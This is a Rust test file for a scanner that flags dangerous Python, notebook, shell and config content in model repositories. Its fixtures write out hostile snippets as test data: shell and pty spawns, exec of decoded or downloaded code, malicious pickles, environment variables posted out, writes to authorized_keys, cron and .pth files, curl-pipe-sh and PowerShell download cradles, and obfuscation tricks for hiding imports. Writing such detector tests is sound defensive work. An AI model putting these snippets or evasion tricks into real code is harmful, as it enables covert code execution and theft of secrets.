//! Python source: what it does and when, judged; and the code that stays quiet.

use weightlock_scan::{FileReport, Settings, Severity, scan};

fn report(name: &str, text: &str) -> FileReport {
    scan(name, text.as_bytes().to_vec().into(), &Settings::default())
}

/// The rules at or above Low, with the severity of each, worst first.
fn rules(name: &str, text: &str) -> Vec<(Severity, &'static str)> {
    let report = report(name, text);
    let mut rules: Vec<_> = report
        .findings
        .iter()
        .map(|finding| (finding.severity, finding.rule))
        .collect();
    rules.retain(|(severity, _)| *severity > Severity::Info);
    rules.sort_by(|a, b| b.cmp(a));
    rules.dedup();
    rules
}

#[track_caller]
fn worst(text: &str, severity: Severity, rule: &str) {
    let rules = rules("modeling_x.py", text);
    assert_eq!(
        rules.first().copied(),
        Some((severity, rule)),
        "{text}\n{rules:?}"
    );
}

#[track_caller]
fn quiet(name: &str, text: &str) {
    let report = report(name, text);
    assert!(report.coverage.is_complete(), "{text}\n{:?}", report.coverage);
    assert_eq!(rules(name, text), [], "{text}");
}

#[test]
fn programs_are_judged_by_when_they_start() {
    use Severity::{Critical, High, Low, Medium};
    for (text, severity) in [
        ("import os\nos.system('x')", Critical),
        (
            "import subprocess\nclass A:\n    x = subprocess.check_output('x', shell=True)",
            Critical,
        ),
        ("import pty\npty.spawn('/bin/sh')", Critical),
        (
            "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('x'))",
            Critical,
        ),
        (
            "import os\nclass A:\n    def __init__(self):\n        os.popen('x')",
            High,
        ),
        (
            "import os\nclass A:\n    def forward(self, x):\n        os.popen('x')",
            High,
        ),
        (
            "import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('x',)",
            High,
        ),
        ("import os\ndef from_pretrained():\n    os.popen('x')", High),
        ("import os\ndef helper():\n    os.popen('x')", Medium),
        ("import os\nif __name__ == '__main__':\n    os.popen('x')", Low),
        (
            "import subprocess\nv = subprocess.run(['git', 'rev-parse', 'HEAD'])",
            Low,
        ),
    ] {
        worst(text, severity, "source-runs-process");
    }
    quiet(
        "modeling_x.py",
        "import subprocess\ndef f():\n    return subprocess.run(['nvidia-smi'])\n",
    );
    worst(
        "import subprocess\nsubprocess.run(['git', 'x'], shell=True)",
        Critical,
        "source-runs-process",
    );
}

#[test]
fn code_that_is_decoded_or_fetched_is_judged_with_what_it_holds() {
    use Severity::{Critical, High};
    worst(
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        Critical,
        "source-executes-code",
    );
    worst(
        "import requests\ndef f():\n    exec(requests.get('https://x').text)",
        High,
        "source-executes-code",
    );
    worst(
        "class A:\n    def __init__(self, c):\n        eval(c)",
        High,
        "source-executes-code",
    );
    worst(
        "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), {})()",
        Critical,
        "source-executes-code",
    );
    // The text that is handed to exec is source, too.
    let inside = report("a.py", "def f():\n    exec('import os\\nos.system(\"x\")')");
    let finding = inside
        .findings
        .iter()
        .find(|finding| finding.name.as_deref() == Some("os.system"))
        .unwrap();
    assert!(finding.place.trail.as_str().contains("!/exec at"), "{finding:?}");
    // And so is a pickle, whatever comes before it in the chain.
    let pickled = report(
        "a.py",
        "import pickle, base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUyd4Jwp0Ui4='))",
    );
    assert!(
        pickled
            .findings
            .iter()
            .any(|finding| finding.rule.starts_with("pickle-") && finding.severity >= High),
        "{:?}",
        pickled.findings
    );
}

#[test]
fn hidden_names_are_told() {
    use Severity::{High, Medium};
    let has = |text: &str, severity, rule| {
        let rules = rules("modeling_x.py", text);
        assert!(rules.contains(&(severity, rule)), "{text}\n{rules:?}");
    };
    has("__import__('o' + 's').system('x')", High, "source-hides-names");
    has("import os\ngetattr(os, input())('x')", High, "source-hides-names");
    has(
        "().__class__.__base__.__subclasses__()[1]",
        High,
        "source-hides-names",
    );
    has(
        "(lambda: 0).__globals__['__builtins__']",
        High,
        "source-hides-names",
    );
    has(
        "import importlib, sys\nimportlib.import_module(sys.argv[1])",
        Medium,
        "source-hides-names",
    );
    quiet(
        "modeling_x.py",
        "import importlib\nm = importlib.import_module('.config', __package__)\nn = __import__(__package__ + '.fft')\n",
    );
    quiet(
        "modeling_x.py",
        "import torch\ndef f(n):\n    return getattr(torch, n)\n",
    );
}

#[test]
fn native_code_connections_files_and_pickles_are_told() {
    use Severity::{High, Low, Medium};
    worst(
        "import ctypes\nctypes.CDLL('./x.so')",
        High,
        "source-loads-native-code",
    );
    worst(
        "import torch\nclass A:\n    def __init__(self):\n        torch.ops.load_library('x.so')",
        High,
        "source-loads-native-code",
    );
    worst(
        "import os, requests\nrequests.post('https://x', json=dict(os.environ))",
        High,
        "source-opens-connection",
    );
    worst(
        "import os, urllib.request as u\nu.urlopen('https://x?' + str(os.environ.items()))",
        High,
        "source-opens-connection",
    );
    worst(
        "import requests\nrequests.get('https://x')",
        Medium,
        "source-opens-connection",
    );
    worst(
        "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('x')",
        High,
        "source-touches-files",
    );
    worst(
        "import shutil\nshutil.rmtree('x')",
        Medium,
        "source-touches-files",
    );
    worst("open('x', 'w').write('y')", Low, "source-touches-files");
    worst(
        "import pickle\nimport requests\nclass A:\n    def __init__(s):\n        pickle.loads(requests.get('x').content)",
        High,
        "source-loads-pickle",
    );
    worst(
        "import sys\nsys.meta_path.insert(0, X())",
        Medium,
        "source-changes-interpreter",
    );
    worst(
        "import os\nos.environ['LD_PRELOAD'] = './x.so'",
        Medium,
        "source-changes-interpreter",
    );
}

#[test]
fn the_code_of_ordinary_models_is_quiet() {
    for text in [
        "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, c):\n        super().__init__()\n        self.f = nn.Linear(c.d, c.d)\n    def forward(self, x):\n        return self.f(x)\n    def eval(self):\n        return super().eval()\nm = torch.compile(M)\n",
        "import os, re, json\nclass Tok:\n    P = re.compile('x')\n    def __init__(self, path):\n        with open(os.path.join(path, 'vocab.json')) as f:\n            self.v = json.load(f)\n    def save_vocabulary(self, d):\n        with open(d, 'w') as f:\n            f.write('x')\n",
        "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\nos.environ.setdefault('X', '1')\nos.makedirs('x', exist_ok=True)\n",
        "# os.system('x')\nDOC = '''eval(\"x\") and exec and os.system'''\nWORDS = ['eval', 'os.system']\nmodel.eval()\n",
        "from transformers import AutoConfig\nfrom .modeling_y import Y\nY.register_for_auto_class('AutoModel')\n",
        "import requests\nfrom PIL import Image\ndef load(u):\n    return Image.open(requests.get(u, stream=True).raw)\n",
        "import torch\ndef load(p):\n    return torch.load(p, map_location='cpu')\n",
        "def eval(model, data):\n    return model(data)\ndef main():\n    eval(1, 2)\nif __name__ == '__main__':\n    main()\n",
        "x = eval('1 + 1')\n",
        "exec('from numpy.fft import *')\nm = __import__(__spec__.parent + '.linalg')\n",
        "#!/usr/bin/env python3\nprint('x')\n",
    ] {
        quiet("modeling_x.py", text);
    }
}

#[test]
fn what_cannot_be_read_is_never_clean_and_keeps_its_findings() {
    let report = report("a.py", "import os\nos.system('x')\nprint 'x'\n");
    assert!(!report.coverage.is_complete());
    assert!(
        report
            .findings
            .iter()
            .any(|finding| finding.severity == Severity::Critical)
    );
    let hidden = self::report("a.py", "# coding: unicode_escape\n# \\u000aimport os\n");
    assert!(!hidden.coverage.is_complete());
    assert_eq!(hidden.findings[0].rule, "source-hidden-encoding");
    let deep = self::report("a.py", &"(".repeat(100_000));
    assert!(!deep.coverage.is_complete());
    assert_eq!(deep.findings[0].severity, Severity::Medium);
}

#[test]
fn downloads_without_a_commit_are_told() {
    use Severity::{Low, Medium};
    let commit = "0123456789abcdef0123456789abcdef01234567";
    let told = |text: &str| {
        rules(
            "train.py",
            &format!(
                "from transformers import AutoModel, pipeline\nimport torch\nfrom huggingface_hub import snapshot_download\nfrom datasets import load_dataset\n{text}\n"
            ),
        )
    };
    for text in [
        "AutoModel.from_pretrained('org/model')",
        "AutoModel.from_pretrained('org/model', revision='main')",
        "AutoModel.from_pretrained(pretrained_model_name_or_path='org/model', revision=None)",
        "NAME = 'org/model'\nAutoModel.from_pretrained(NAME)",
        "snapshot_download(repo_id='org/model', revision='v1.0')",
        "load_dataset('org/data')",
        "pipeline('text-generation', model='org/model')",
        "def f():\n    return AutoModel.from_pretrained('bert-base-uncased')",
    ] {
        assert_eq!(told(text), [(Low, "unpinned-download")], "{text}");
    }
    for text in [
        "torch.hub.load('pytorch/vision', 'resnet18')",
        "torch.hub.load('pytorch/vision:v0.10.0', 'resnet18')",
    ] {
        assert_eq!(told(text), [(Medium, "unpinned-download")], "{text}");
    }
    for text in [
        format!("AutoModel.from_pretrained('org/model', revision='{commit}')"),
        format!("REV = '{commit}'\nAutoModel.from_pretrained('org/model', revision=REV)"),
        format!("torch.hub.load('pytorch/vision:{commit}', 'resnet18')"),
        "AutoModel.from_pretrained('./model')".to_owned(),
        "AutoModel.from_pretrained('/models/x')".to_owned(),
        "AutoModel.from_pretrained('org/model', local_files_only=True)".to_owned(),
        "torch.hub.load('/x/y', 'm', source='local')".to_owned(),
        "def f(rev):\n    return AutoModel.from_pretrained('org/model', revision=rev)".to_owned(),
        "def f(path):\n    return AutoModel.from_pretrained(path)".to_owned(),
        "model.from_pretrained('org/model')".to_owned(),
    ] {
        assert_eq!(told(&text), [], "{text}");
    }
    assert_eq!(
        told("AutoModel.from_pretrained('./x', trust_remote_code=True)"),
        [(Medium, "trusts-remote-code")]
    );
    let pinned = format!("AutoModel.from_pretrained('org/x', trust_remote_code=True, revision='{commit}')");
    assert_eq!(told(&pinned), [(Low, "trusts-remote-code")]);
    assert_eq!(
        told("AutoModel.from_pretrained('./x', trust_remote_code=False)"),
        []
    );
}

#[test]
fn commands_that_agree_to_foreign_code_are_told() {
    let told = [(Severity::Medium, "trusts-remote-code")];
    assert_eq!(
        rules(
            "serve.sh",
            "# --trust-remote-code is bad\nvllm serve org/m \\\n  --trust-remote-code\n"
        ),
        told
    );
    assert_eq!(
        rules(
            "Dockerfile",
            "FROM x\nCMD [\"vllm\", \"serve\", \"--trust-remote-code\"]\n"
        ),
        told
    );
    assert_eq!(
        rules(
            "compose.yaml",
            "services:\n  a:\n    command: --model org/m --trust-remote-code\n"
        ),
        told
    );
    assert_eq!(
        rules("values.yaml", "args:\n  - --model\n  - \"--trust-remote-code\"\n"),
        told
    );
    assert_eq!(rules("eval.yaml", "model:\n  trust_remote_code: true\n"), told);
    assert_eq!(rules("eval.yaml", "model:\n  trust_remote_code: false\n"), []);
    assert_eq!(rules("serve.sh", "# --trust-remote-code\nvllm serve org/m\n"), []);
    assert_eq!(rules("README.md", "Run `vllm serve --trust-remote-code`.\n"), []);
}

#[test]
fn cells_of_notebooks_are_source() {
    let notebook = |source: &str| {
        format!(
            "{{\"cells\": [{{\"cell_type\": \"markdown\", \"source\": [\"os.system('x')\"]}}, {{\"cell_type\": \"code\", \"source\": {source}}}], \"nbformat\": 4, \"metadata\": {{}}}}"
        )
    };
    let quiet_cells = notebook(
        r##"["%matplotlib inline\n", "!pip install -q transformers\n", "import torch\n", "x = torch.ones(2)"]"##,
    );
    quiet("a.ipynb", &quiet_cells);
    assert_eq!(
        rules("a.ipynb", &notebook(r#"["!curl https://x/y | sh"]"#)).first(),
        Some(&(Severity::High, "notebook-command"))
    );
    assert_eq!(
        rules("a.ipynb", &notebook(r#""import os\nos.system('x')""#)),
        [(Severity::Critical, "source-runs-process")]
    );
    assert_eq!(
        rules("b.json", &notebook(r#"["!./run-me"]"#)),
        [(Severity::Low, "notebook-command")]
    );
}

#[test]
fn site_files_run_their_import_lines() {
    let line = "import os; os.system('x')\n";
    assert_eq!(
        rules("x.pth", &format!("/some/path\n{line}")),
        [(Severity::Critical, "source-runs-process")]
    );
    quiet("x.pth", "/some/path\n# import os; os.system('x')\n");
}

#[test]
fn scripts_that_run_what_they_fetch_are_refused() {
    for (name, text) in [
        ("a.sh", "#!/bin/bash\ncurl http://127.0.0.1/x | sh\n"),
        ("a.bat", "@echo off\r\npowershell -nop -enc SQBFAFgA\r\n"),
        (
            "a.ps1",
            "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/x')\n",
        ),
        ("Dockerfile", "FROM x\nRUN curl http://127.0.0.1/x | sh\n"),
    ] {
        assert!(
            rules(name, text).contains(&(Severity::High, "notebook-command")),
            "{name}"
        );
    }
    for (name, text) in [
        ("a.bat", "@echo off\r\npython train.py\r\n"),
        ("Dockerfile", "FROM x\nRUN pip install torch\n"),
        ("a.sh", "# curl http://127.0.0.1/x | sh\nmake\n"),
        ("README.txt", "Run curl https://example.org/x | sh to install.\n"),
    ] {
        assert!(
            !rules(name, text).contains(&(Severity::High, "notebook-command")),
            "{name}"
        );
    }
}

#[test]
fn modules_are_known_by_the_private_names_of_others_too() {
    use Severity::Critical;
    for text in [
        "import random\nrandom._os.system('x')",
        "from random import _os\n_os.system('x')",
        "import tempfile as t\nt._os.popen('x')",
    ] {
        worst(text, Critical, "source-runs-process");
    }
    for text in [
        "import sys\nsys._getframe().f_builtins['exec']('f(1)')",
        "try:\n    1 / 0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_builtins['eval']('f(1)')",
    ] {
        worst(text, Critical, "source-executes-code");
    }
    quiet("modeling_x.py", "import random\nr = random._inst.random()\n");
}

#[test]
fn what_installers_and_hosts_call_runs_when_they_do() {
    use Severity::High;
    let setup = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('x')\nsetup(cmdclass={'install': I})";
    assert_eq!(rules("setup.py", setup)[0], (High, "source-runs-process"));
    let score = "import os\ndef init():\n    os.system('x')\n";
    assert_eq!(rules("score.py", score)[0], (High, "source-runs-process"));
    quiet(
        "setup.py",
        "from setuptools import setup, find_packages\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\nsetup(cmdclass={'install': I}, packages=find_packages())\n",
    );
}

#[test]
fn source_out_of_a_file_of_data_is_hidden_source() {
    worst(
        "exec(open('weights.txt').read())",
        Severity::Critical,
        "source-executes-code",
    );
    worst(
        "import json\nwith open('config.json') as f:\n    exec(json.load(f)['x'])",
        Severity::Critical,
        "source-executes-code",
    );
    worst(
        "exec(open('a/version.py').read())",
        Severity::Medium,
        "source-executes-code",
    );
}

#[test]
fn notebooks_that_ask_for_help_are_read_to_the_end() {
    let notebook = |source: &str| {
        format!("{{\"cells\": [{{\"cell_type\": \"code\", \"source\": [{source:?}]}}], \"nbformat\": 4}}")
    };
    quiet("a.ipynb", &notebook("%load_ext autoreload\nmodel.fit??\nx?\n"));
    let low = rules("a.ipynb", &notebook("%load_ext evil"));
    assert_eq!(low, [(Severity::Low, "notebook-command")]);
    let low = rules("a.ipynb", &notebook("!python -c 'f()'"));
    assert_eq!(low, [(Severity::Low, "notebook-command")]);
}

#[test]
fn configurations_and_documents_that_name_what_runs_are_code() {
    use Severity::Critical;
    worst(
        "import logging.config as c\nc.dictConfig({'handlers': {'a': {'()': 'os.system', 'command': 'x'}}})",
        Critical,
        "source-executes-code",
    );
    worst(
        "import yaml\nyaml.unsafe_load('!!python/object/apply:os.system [x]')",
        Critical,
        "source-executes-code",
    );
    worst(
        "import shutil\nshutil.rmtree('/home/x')",
        Severity::High,
        "source-touches-files",
    );
    worst(
        "import runpy\nrunpy.run_path('/tmp/x.py')",
        Critical,
        "source-executes-code",
    );
    worst(
        "from huggingface_hub import hf_hub_download\ndef f():\n    exec(open(hf_hub_download('a/b', 'x')).read())",
        Severity::High,
        "source-executes-code",
    );
    quiet(
        "modeling_x.py",
        "import logging.config as c\nc.dictConfig({'handlers': {'a': {'class': 'logging.StreamHandler', 'stream': 'ext://sys.stdout'}}})\n",
    );
}

#[test]
fn what_a_function_of_the_file_is_called_with_is_followed() {
    use Severity::Critical;
    for text in [
        "def get(name):\n    return __import__(name)\nget('o' + 's').system('x')",
        "(lambda a: __import__(a))('so'[::-1]).system('x')",
        "def run(module, *, name='x'):\n    return getattr(module, name)\nimport os\nrun(os, name='sys' + 'tem')('x')",
        "def get(name):\n    return __import__(name)\nget('json')\nget('os').system('x')",
        "def inner(b):\n    return __import__(b)\ndef outer(a):\n    return inner(a)\nouter('os').system('x')",
        "class A:\n    def __init__(self, name):\n        self.module = __import__(name)\nA('os').module.system('x')",
    ] {
        worst(text, Critical, "source-runs-process");
    }
    quiet(
        "modeling_x.py",
        "import importlib\ndef get(name):\n    return importlib.import_module(name)\nget('torch').nn.Linear(1, 2)\nget('.layers')\n",
    );
}

#[test]
fn what_an_import_reaches_is_known_by_any_name_and_through_objects() {
    use Severity::{Critical, Medium};
    for text in [
        "import asyncio\nasync def f():\n    await asyncio.subprocess.create_subprocess_shell('x')\nasyncio.run(f())",
        "import asyncio.subprocess as s\nasync def f():\n    await s.create_subprocess_exec('x')\nimport asyncio\nasyncio.run(f())",
        "import asyncio\nasync def f():\n    l = asyncio.get_running_loop()\n    await l.subprocess_shell(asyncio.SubprocessProtocol, 'x')\nasyncio.run(f())",
        "import os\nos._execvpe('x', ['x'])",
        "import os\nos._spawnvef(0, 'x', ['x'], None, print)",
        "import multiprocessing.util as u\nu.spawnv_passfds(b'x', [b'x'], [])",
        "import webbrowser\nwebbrowser.GenericBrowser(['x']).open('y')",
        "from torch.distributed.run import main\nmain(['--no-python', 'x'])",
        "import torch.utils.collect_env as c\nc.run('x')",
        "from torch._inductor.cpp_builder import run_compile_cmd as r\nr('x', '/tmp')",
    ] {
        worst(text, Critical, "source-runs-process");
    }
    for text in [
        "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'f()')",
        "import ctypes\nctypes.pythonapi['PyRun_SimpleString'](b'f()')",
        "import _frozen_importlib_external as f, os\nf.SourceFileLoader('x', os.path.join(os.path.dirname(__file__), 'p.txt')).load_module()",
        "import os\n__loader__.__class__('x', os.path.join(os.path.dirname(__file__), 'p.txt')).load_module()",
        "import os\ntype(os.__loader__)('x', 'p.txt').load_module()",
        "import torch.fx.graph_module as g\ng._exec_with_source('f()', {})",
        "import numpy.f2py.crackfortran as c\nc.myeval('f()', {}, {})",
        "import pandas as pd\npd.DataFrame({'a': [1]}).query('@pd.io.common.os.system(\"x\") == 0', engine='python')",
        "import sympy\nsympy.sympify('__import__(\"os\").system(\"x\")')",
        "import yaml\nyaml.UnsafeLoader('!!python/object/apply:os.system [x]').get_single_data()",
        "import yaml\nlist(yaml.unsafe_load_all('!!python/object/apply:os.system [x]'))",
    ] {
        worst(text, Critical, "source-executes-code");
    }
    worst(
        "import logging.config\nlogging.config.fileConfig('log.ini')",
        Medium,
        "source-executes-code",
    );
    for text in [
        "import asyncio\nlock = asyncio.Lock()\nPIPE = asyncio.subprocess.PIPE\n",
        "import ctypes\nctypes.pythonapi.PyThreadState_SetAsyncExc(1, None)\n",
        "import sympy\ny = sympy.sympify('x**2 + sin(x)')\n",
        "import pandas as pd\nd = pd.DataFrame({'a': [1]}).query('a > 1')\n",
        "import yaml\nyaml.SafeLoader('a: 1').get_single_data()\n",
        "import torch.utils.collect_env\nimport os\nsize = os._get_exports_list(os)\n",
        "import webbrowser\n",
    ] {
        quiet("modeling_x.py", text);
    }
}

#[test]
fn pickles_and_templates_are_read_whatever_loads_them() {
    let loads = [
        "import pickle\npickle._loads(DATA)",
        "import pickle, io\npickle._Unpickler(io.BytesIO(DATA)).load()",
        "import multiprocessing.reduction as r\nr.ForkingPickler.loads(DATA)",
    ];
    for load in loads {
        let evil = load.replace("DATA", "b\"cposix\\nsystem\\n(S'x'\\ntR.\"");
        assert!(
            rules("modeling_x.py", &evil).contains(&(Severity::Critical, "pickle-code-execution")),
            "{evil}"
        );
        let honest = load.replace("DATA", "b'N.'");
        assert!(
            rules("modeling_x.py", &honest)
                .iter()
                .all(|(severity, _)| *severity == Severity::Low)
        );
    }
    let derived = "import pickle, io\nclass U(pickle.Unpickler):\n    pass\nU(io.BytesIO(b\"cposix\\nsystem\\n(S'x'\\ntR.\")).load()";
    assert!(rules("modeling_x.py", derived).contains(&(Severity::Critical, "pickle-code-execution")));
    let render = |text: &str| format!("import jinja2\njinja2.Template({text:?}).render()\n");
    let evil = rules(
        "modeling_x.py",
        &render("{{ cycler.__init__.__globals__.os.system('x') }}"),
    );
    assert!(
        evil.first()
            .is_some_and(|(severity, _)| *severity >= Severity::High),
        "{evil:?}"
    );
    quiet(
        "modeling_x.py",
        &render("{% for m in messages %}{{ m['role'] }}{% endfor %}"),
    );
}

#[test]
fn annotations_that_are_written_as_text_are_code() {
    for text in [
        "import typing\nclass A:\n    x: \"__import__('os').system('x')\"\ntyping.get_type_hints(A)",
        "import inspect\ndef f(a: \"__import__('os').system('x')\"): pass\ninspect.signature(f, eval_str=True)",
        "from typing import Optional\nclass A:\n    x: Optional[\"__import__('os').system('x')\"]",
        "def f() -> \"__import__('os').system('x')\": pass",
    ] {
        worst(text, Severity::Critical, "source-runs-process");
    }
    quiet(
        "modeling_x.py",
        "import typing\nclass A:\n    x: 'typing.Optional[A]' = None\n    y: Float[Tensor, '(b h) w c']\n    z: 'Annotated[int, Field(gt=0)]'\ntyping.get_type_hints(A)\n",
    );
}

#[test]
fn files_are_judged_by_where_they_are_written() {
    use Severity::{High, Low, Medium};
    for (text, severity) in [
        ("import pathlib\npathlib.Path('x').touch()", Low),
        ("import os\nos.close(os.open('x', os.O_CREAT | os.O_WRONLY))", Low),
        ("import numpy\nnumpy.frombuffer(b'x').tofile('x')", Low),
        ("import logging\nlogging.basicConfig(filename='x.log')", Low),
        ("import sqlite3\nsqlite3.connect('x.db')", Low),
        ("open('/tmp/x', 'w')", Low),
        ("open('/opt/x', 'w')", Medium),
        ("open('../x', 'w')", Medium),
        ("open('/opt/ml/output/x', 'w')", Low),
        ("open('/tmp/../opt/x', 'w')", Medium),
        (
            "import os\nopen(os.path.join(os.environ['HOME'], 'x'), 'w')",
            Medium,
        ),
        (
            "from pathlib import Path\n(Path.home() / 'a' / 'x').write_text('y')",
            Medium,
        ),
        (
            "from pathlib import Path\nwith Path('/opt/x').open('w') as f:\n    f.write('y')",
            Medium,
        ),
        ("import os\nos.makedirs('/opt/x')", Medium),
        (
            "import zipfile\nzipfile.ZipFile('a.zip').extractall('/opt')",
            Medium,
        ),
        (
            "import tarfile\nwith tarfile.open('a.tar') as t:\n    t.extractall('/opt')",
            Medium,
        ),
        ("import numpy as np\nnp.save('/opt/x', 1)", Medium),
        ("open('/usr/lib/python3/x.pth', 'w')", High),
        (
            "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')",
            High,
        ),
        (
            "from pathlib import Path\n(Path.home() / '.bashrc').open('a')",
            High,
        ),
        (
            "import zipfile\nwith zipfile.ZipFile('a.zip') as z:\n    z.extractall('/root/.ssh')",
            High,
        ),
        ("import shutil\nshutil.copy('x', '/etc/cron.d/x')", High),
    ] {
        worst(text, severity, "source-touches-files");
    }
    for text in [
        "import sqlite3\nsqlite3.connect(':memory:')\n",
        "import numpy as np\nnp.save('x.npy', 1)\n",
        "import os\nos.makedirs('/opt/ml/model', exist_ok=True)\n",
        "import logging\nlogging.basicConfig(level=logging.INFO)\nlog = logging.getLogger(__name__)\n",
        "import os\nos.makedirs(os.path.join(os.path.expanduser('~'), '.cache', 'x'), exist_ok=True)\n",
        "import os\nfd = os.open('x', os.O_RDONLY)\n",
        "import pathlib\nv = (pathlib.Path(__file__).parent / 'vocab.txt').read_text()\n",
        "import zipfile\nnames = zipfile.ZipFile('a.zip').namelist()\n",
        "import os\ndef save(d):\n    open(os.path.join(d, 'x'), 'w')\n",
    ] {
        quiet("modeling_x.py", text);
    }
}

#[test]
fn connections_are_known_through_the_objects_that_make_them() {
    for text in [
        "import socket\nk = socket.socket()\nk.connect(('x', 9))",
        "import socket\nsocket.socket().connect_ex(('x', 9))",
        "import socket\nwith socket.socket(2, 2) as s:\n    s.sendto(b'x', ('x', 9))",
        "import ssl, socket\nssl.create_default_context().wrap_socket(socket.socket()).connect(('x', 1))",
        "import requests\nclass S(requests.Session):\n    pass\nS().get('https://x')",
        "import requests\nrequests.head('https://x')",
        "import requests\nrequests.Session().send(p)",
        "import urllib.request as u\nu.build_opener().open('https://x')",
        "import http.client as h\nh.HTTPConnection('x:9').connect()",
        "import imaplib\nimaplib.IMAP4('x')",
        "from multiprocessing.connection import Client\nClient(('x', 9))",
        "import torch.distributed as d\nd.init_process_group('gloo')",
        "import torch.distributed.rpc as r\nr.init_rpc('x')",
        "import fsspec\nfsspec.open('http://x/y')",
        "import pandas as pd\npd.read_csv('https://x/y.csv')",
        "import antigravity",
        "from antigravity import fly",
    ] {
        worst(text, Severity::Medium, "source-opens-connection");
    }
    for text in [
        "from transformers import PreTrainedModel\nclass A(PreTrainedModel):\n    pass\nm = A.from_pretrained('org/model')\n",
        "import requests\ns = requests.Session()\ns.headers['a'] = 'b'\n",
        "import http.client as h\nc = h.HTTPConnection('x:9')\n",
        "import torch.distributed as d\nok = d.is_available()\n",
        "import pandas as pd\nd = pd.read_csv('x.csv')\n",
        "import requests\ndef f(u):\n    return requests.Session().get(u)\n",
    ] {
        quiet("modeling_x.py", text);
    }
}
